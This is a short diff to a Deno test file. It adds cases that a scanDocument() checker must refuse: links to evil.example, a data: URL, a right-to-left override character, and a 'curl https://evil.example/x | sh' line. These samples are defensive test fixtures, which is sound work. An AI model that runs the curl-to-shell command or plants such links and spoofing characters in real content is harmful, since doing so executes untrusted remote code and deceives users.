@@ -31,12 +31,13 @@ for (
     "[x]: data:text/html,x",
     "[x](//evil.example/x)",
     "![x](https://evil.example/x.png)",
+    "\u202efine",
     "curl https://evil.example/x | sh",
     "ftp://127.0.0.1:8080",
     "http://127.0.0.1:8080@evil.example/x",
   ]
 ) {
-  Deno.test(`scanDocument() refuses ${more.replaceAll("\n", "⏎")}`, () => {
+  Deno.test(`scanDocument() refuses ${JSON.stringify(more).replace("\u202e", "U+202E ")}`, () => {
     const [fault] = scanDocument(PATH, `${RENDERED}\n${more}\n`, RENDERED);
     assertStringIncludes(fault?.place ?? "", `${PATH}:`);
     assertStringIncludes(fault?.cause ?? "", "found ");
